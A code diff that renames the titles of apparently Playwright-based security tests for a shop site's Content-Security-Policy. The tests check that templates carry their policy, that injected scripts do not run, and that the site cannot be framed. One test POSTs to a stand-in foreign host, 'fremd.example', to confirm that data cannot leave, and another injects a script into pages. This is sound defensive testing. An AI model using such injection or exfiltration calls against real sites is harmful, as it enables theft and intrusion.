@@ -78,7 +78,7 @@ function hostsIn(policy: string): Readonly<Record<string, readonly string[]>> {
 }
 
 // console.spec.ts proves that each page works within its policy: a violation is an error in the console.
-test("B-SEC-01 every template's page comes with its policy: configured hosts, and payment providers at the checkout alone", async ({
+test("B-SEC-01 serves every template with its policy: configured hosts, and payment providers at the checkout only", async ({
 	request,
 }) => {
 	for (const [, path] of allTemplatePages) {
@@ -94,7 +94,7 @@ test("B-SEC-01 every template's page comes with its policy: configured hosts, an
 	}
 });
 
-test("B-SEC-01 no document of the site holds a handler or an address that would run, nor a script that its policy does not know", () => {
+test("B-SEC-01 serves no document with inline handlers, executable addresses or scripts unknown to its policy", () => {
 	const root = realpathSync("dist/test/site-a");
 	const [, policy = ""] = /script-src ([^;]+);/.exec(readFileSync(join(root, "_headers"), "utf8")) ?? [];
 	const isKnown = (text: string) =>
@@ -116,7 +116,7 @@ test("B-SEC-01 no document of the site holds a handler or an address that would 
 });
 
 test(
-	"B-SEC-01 drawers and external contents are within the policy, whatever page the visit began on",
+	"B-SEC-01 keeps drawers and external contents within the policy, whatever the first page was",
 	furtherCase,
 	async ({ page }) => {
 		await page.route(/openstreetmap|statistik\./, (route) =>
@@ -135,7 +135,7 @@ test(
 	},
 );
 
-test("B-SEC-01 no script that is put into a page runs, nor does another host's load", async ({ page }) => {
+test("B-SEC-01 runs no injected script and loads none from another host", async ({ page }) => {
 	for (const path of ["/", checkout]) {
 		await open(page, path);
 		await page.evaluate(() => {
@@ -155,7 +155,7 @@ test("B-SEC-01 no script that is put into a page runs, nor does another host's l
 	}
 });
 
-test("B-SEC-01 nothing typed leaves for another host, by request, form or base address", async ({ page }) => {
+test("B-SEC-01 sends no typed data to another host, by request, form or base address", async ({ page }) => {
 	await open(page, "/kontakt");
 	const outcome = await page.evaluate(async () => {
 		const sent = await fetch("https://fremd.example/", { method: "POST", mode: "no-cors", body: "x" }).then(
@@ -177,7 +177,7 @@ test("B-SEC-01 nothing typed leaves for another host, by request, form or base a
 		.toEqual(["base-uri", "connect-src", "form-action"]);
 });
 
-test("B-SEC-01 no other site shows a page within its own", async ({ page }) => {
+test("B-SEC-01 cannot be framed by another site", async ({ page }) => {
 	const stranger = "http://fremd.example/";
 	await page.route(stranger, (route) =>
 		route.fulfill({ contentType: "text/html", body: `<iframe src="${shopAddress}/kontakt"></iframe>` }),
@@ -188,7 +188,7 @@ test("B-SEC-01 no other site shows a page within its own", async ({ page }) => {
 });
 
 test(
-	"B-SEC-01 payment providers are allowed at the checkout alone, which is a document of its own",
+	"B-SEC-01 allows payment providers at the checkout only, which is a separate document",
 	furtherCase,
 	async ({ page }) => {
 		const paypal = "https://www.paypal.com/sdk/js";
